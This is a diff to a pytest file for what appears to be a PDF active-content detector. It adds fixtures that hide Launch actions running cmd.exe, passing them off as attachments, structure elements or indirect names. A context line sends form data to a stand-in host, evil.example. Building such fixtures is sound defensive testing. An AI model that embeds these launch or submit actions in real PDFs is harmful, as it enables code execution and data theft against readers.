@@ -3,6 +3,7 @@
 import gzip
 from io import BytesIO
 from pathlib import Path
+from typing import Any
 
 import pikepdf
 import pytest
@@ -64,6 +65,20 @@ def view(pdf: pikepdf.Pdf) -> None:
     pdf.Root.OpenAction = Array([0, Name.FitH, 800])
 
 
+def disguised(**entries: Any) -> Change:
+    def change(pdf: pikepdf.Pdf) -> None:
+        launch = action("Launch", F="cmd")
+        for name, value in entries.items():
+            launch[f"/{name}"] = value
+        opening(launch)(pdf)
+
+    return change
+
+
+def indirect_name(pdf: pikepdf.Pdf) -> None:
+    annotated(A=Dictionary(S=pdf.make_indirect(Name.Launch), F=String("cmd.exe")))(pdf)
+
+
 def rich_media(pdf: pikepdf.Pdf) -> None:
     annotated(RichMediaContent=Dictionary(Assets=Dictionary()))(pdf)
     pdf.pages[0].obj.Annots[0].Subtype = Name.RichMedia
@@ -94,6 +109,10 @@ ACTING = {
     "a script in a Rendition": (linked("Rendition", JS="x()"), "JavaScript", "x()"),
     "a script elsewhere": (unreferenced, "JavaScript", "app.alert"),
     "Launch": (opened("Launch", F="cmd.exe"), "start of another program", "Launch"),
+    "Launch with an empty script": (opened("Launch", F="cmd.exe", JS=""), "start of another program", "cmd.exe"),
+    "Launch as an attachment": (disguised(EF=Dictionary()), "start of another program", "cmd"),
+    "Launch as a part of the structure": (disguised(Type=Name.StructElem), "start of another program", "cmd"),
+    "Launch by a name elsewhere": (indirect_name, "start of another program", "cmd.exe"),
     "Launch after a jump": (chain, "start of another program", "Launch"),
     "SubmitForm": (linked("SubmitForm", F="http://evil.example/"), "sending of form data", "SubmitForm"),
     "ImportData": (linked("ImportData", F="a.fdf"), "import of data", "ImportData"),
